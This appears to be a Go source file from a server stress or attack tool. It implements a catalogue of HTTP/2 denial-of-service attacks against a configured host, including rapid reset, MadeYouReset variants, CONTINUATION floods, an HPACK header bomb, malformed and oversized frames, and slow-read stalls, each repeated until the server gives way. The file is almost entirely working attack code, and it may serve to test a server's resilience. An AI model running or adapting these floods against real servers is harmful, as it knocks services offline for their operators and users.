package main

import (
	"bufio"
	"bytes"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// framing is a hostile connection that speaks HTTP/2 by its frames.
type framing struct {
	*striker
	*http2.Framer
	out  *bufio.Writer
	next uint32 // stream
	head []byte // a whole question
	body []byte // the head of one whose body follows
}

// frames greets the house. What it says is read if reading.
func (s *striker) frames(reading bool, settings ...http2.Setting) *framing {
	if !s.secure("h2") || !s.send(http2.ClientPreface) {
		return nil
	}
	f := &framing{striker: s, out: bufio.NewWriterSize(s.Conn, 16<<10), next: 1}
	f.Framer = http2.NewFramer(f.out, nil)
	f.AllowIllegalWrites = true
	f.head = headBlock(":method", "GET", ":scheme", "https", ":authority", housesHost, ":path", "/domain/bakery.example")
	f.body = headBlock(":method", "POST", ":scheme", "https", ":authority", housesHost, ":path", "/availability", "content-type", "text/plain")
	if f.WriteSettings(settings...) != nil || f.WriteSettingsAck() != nil {
		return nil
	}
	if reading {
		conn := s.Conn
		go func() {
			for buffer := make([]byte, 16<<10); ; {
				if _, err := conn.Read(buffer); err != nil {
					return
				}
			}
		}()
	}
	return f
}

// headBlock encodes fields so that the same bytes mean the same on every stream.
func headBlock(fields ...string) []byte {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	e.SetMaxDynamicTableSize(0)
	for i := 0; i < len(fields); i += 2 {
		_ = e.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a buffer takes all
	}
	return block.Bytes()
}

// open begins a stream and returns its number.
func (f *framing) open(block []byte, ended bool) uint32 {
	id := f.next
	f.next += 2
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: ended, EndHeaders: true}) // Flush tells
	return id
}

// again does it, so many times in one go, until the house has had enough.
func (f *framing) again(atOnce int, do func()) {
	for {
		for range atOnce {
			do()
		}
		if f.out.Flush() != nil {
			return
		}
		f.landed()
		rest(f.ctx, framePause)
	}
}

const (
	framesAtOnce = 500 // more than any limit on early resets lets pass
	largeAtOnce  = 20  // of some kilobytes each
)

// once does it once, and keeps the connection.
func (f *framing) once(do func()) {
	do()
	if f.out.Flush() == nil {
		f.hold()
	}
}

// overHTTP2 makes a strike of what is done with frames.
func overHTTP2(reading bool, do func(*framing), settings ...http2.Setting) func(*striker) {
	return func(s *striker) {
		if f := s.frames(reading, settings...); f != nil {
			do(f)
		}
	}
}

var (
	noWindow    = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
	allWindow   = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}
	noBytes     []byte
	longHeaders = headBlock("x-long", strings.Repeat("a", 8000))
)

// attacksOnHTTP2 are those that its frames make possible.
func attacksOnHTTP2() []attack {
	several := func(name string, atOnce int, do func(*framing)) attack {
		return attack{name: name, fast: true, strike: overHTTP2(true, func(f *framing) { f.again(atOnce, func() { do(f) }) })}
	}
	flood := func(name string, do func(*framing)) attack { return several(name, framesAtOnce, do) }
	deaf := func(name string, do func(*framing)) attack {
		return attack{name: name + ", unread", fast: true, deaf: true,
			strike: overHTTP2(false, func(f *framing) { f.again(framesAtOnce, func() { do(f) }) })}
	}
	settings := func(f *framing) { _ = f.WriteSettings() }
	ping := func(f *framing) { _ = f.WritePing(false, [8]byte{1}) }
	attacks := []attack{
		flood("rapid reset", func(f *framing) { _ = f.WriteRSTStream(f.open(f.head, true), http2.ErrCodeCancel) }),
		flood("MadeYouReset by a window of nothing", func(f *framing) { _ = f.WriteWindowUpdate(f.open(f.head, true), 0) }),
		flood("MadeYouReset by a window too large", func(f *framing) { _ = f.WriteWindowUpdate(f.open(f.head, true), 1<<31-1) }),
		flood("MadeYouReset by data after the end", func(f *framing) { _ = f.WriteData(f.open(f.head, true), true, []byte("a")) }),
		flood("MadeYouReset by a priority of itself", func(f *framing) {
			id := f.open(f.head, true)
			_ = f.WritePriority(id, http2.PriorityParam{StreamDep: id})
		}),
		flood("CONTINUATION without an end", continuations(headBlock("x-a", "b"))),
		flood("CONTINUATION of nothing", continuations(nil)),
		flood("SETTINGS", settings),
		deaf("SETTINGS", settings),
		flood("SETTINGS of changing windows", changingWindows()),
		flood("PING", ping),
		deaf("PING", ping),
		flood("WINDOW_UPDATE by one", func(f *framing) { _ = f.WriteWindowUpdate(0, 1) }),
		flood("PRIORITY of unknown streams", func(f *framing) {
			f.next += 2
			_ = f.WritePriority(f.next, http2.PriorityParam{Weight: 1})
		}),
		flood("DATA of nothing", func(f *framing) {
			if f.next == 1 {
				f.open(f.body, false)
			}
			_ = f.WriteData(1, false, noBytes)
		}),
		flood("frames of unknown kinds", func(f *framing) { _ = f.WriteRawFrame(0xbb, 0, 0, noBytes) }),
		flood("GOAWAY", func(f *framing) { _ = f.WriteGoAway(0, http2.ErrCodeNo, nil) }),
		flood("ten thousand streams", func(f *framing) { f.open(f.body, false) }),
		several("headers longer than allowed", largeAtOnce, func(f *framing) { f.open(longHeaders, true) }),
		several("one header a thousand times", largeAtOnce, hpackBomb()),
		{name: "a window of nothing", fast: true, strike: overHTTP2(true, stall, noWindow)},
		{name: "a window opened by a byte", fast: true, strike: overHTTP2(true, trickle, noWindow)},
		{name: "reads nothing", fast: true, deaf: true, strike: overHTTP2(false, stall, allWindow)},
		{name: "bodies that do not come", fast: true, strike: overHTTP2(true, func(f *framing) {
			f.once(func() {
				for range 64 {
					f.open(f.body, false)
				}
			})
		})},
		{name: "half a frame", fast: true, strike: overHTTP2(true, func(f *framing) {
			f.once(func() { _, _ = f.out.WriteString("\x00\x10\x00\x01\x05\x00\x00\x00\x01abc") })
		})},
		{name: "a frame larger than allowed", fast: true, strike: overHTTP2(true, func(f *framing) {
			f.once(func() { _, _ = f.out.WriteString("\xff\xff\xff\x00\x00\x00\x00\x00\x01") })
		})},
		{name: "a preface and nothing", fast: true, strike: overHTTP2(true, func(f *framing) { f.once(func() {}) })},
	}
	for i := range attacks {
		attacks[i].window, attacks[i].name = "rdap", "HTTP2 "+attacks[i].name
	}
	return attacks
}

// continuations is a block of headers that goes on for ever.
func continuations(fragment []byte) func(*framing) {
	return func(f *framing) {
		if f.next == 1 {
			f.next = 3
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head, EndStream: true})
		}
		_ = f.WriteContinuation(1, false, fragment)
	}
}

// changingWindows opens streams and changes the windows of all at once.
func changingWindows() func(*framing) {
	return func(f *framing) {
		if f.next < 128 {
			f.open(f.head, true)
		}
		_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(time.Now().UnixNano()) & 1})
	}
}

// hpackBomb names one long header again and again by its number in the table.
func hpackBomb() func(*framing) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, name := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", housesHost}, {":path", "/help"}} {
		_ = e.WriteField(hpack.HeaderField{Name: name[0], Value: name[1]})
	}
	for range 2000 {
		_ = e.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("a", 3000)})
	}
	whole := block.Bytes()
	return func(f *framing) { f.open(whole, true) }
}

// stall asks on all streams and takes no answer in.
func stall(f *framing) {
	f.once(func() {
		for range 64 {
			f.open(f.head, true)
		}
	})
}

// trickle asks, and lets a byte of the answer come at a time.
func trickle(f *framing) {
	f.open(f.head, true)
	for f.WriteWindowUpdate(1, 1) == nil && f.out.Flush() == nil {
		f.landed()
		rest(f.ctx, dripPause)
	}
}
